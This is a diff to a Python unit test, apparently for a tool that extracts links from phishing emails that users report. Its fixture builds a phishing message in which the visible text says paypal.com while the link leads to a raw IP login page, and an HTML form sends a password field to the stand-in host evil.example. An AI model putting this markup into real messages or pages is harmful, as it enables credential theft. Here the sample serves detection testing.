@@ -121,7 +121,7 @@ def test_attached_rfc822_keeps_headers_and_raw_links() -> None:
     phish["Return-Path"] = "<bounce@spammer.example>"
     phish["Subject"] = "Limited"
     phish.set_content("text")
-    phish.add_alternative('<a href="http://10.0.0.1/login" onclick="x()">https://www.paypal.com/</a>'
+    phish.add_alternative('<a href="http://203.0.113.7/login" onclick="x()">https://www.paypal.com/</a>'
                           '<form action="http://evil.example/post"><input name=pw></form>', subtype="html")
     report = EmailMessage()
     report["From"] = "user@example.com"
@@ -130,7 +130,7 @@ def test_attached_rfc822_keeps_headers_and_raw_links() -> None:
     reported = find_reported_message(parse_message(report.as_bytes()))
     assert reported is not None and reported.source == "attached_rfc822"
     assert reported.return_path == "bounce@spammer.example"
-    assert ("https://www.paypal.com/", "http://10.0.0.1/login") in reported.links
+    assert ("https://www.paypal.com/", "http://203.0.113.7/login") in reported.links
     assert ("[form]", "http://evil.example/post") in reported.links
 
 
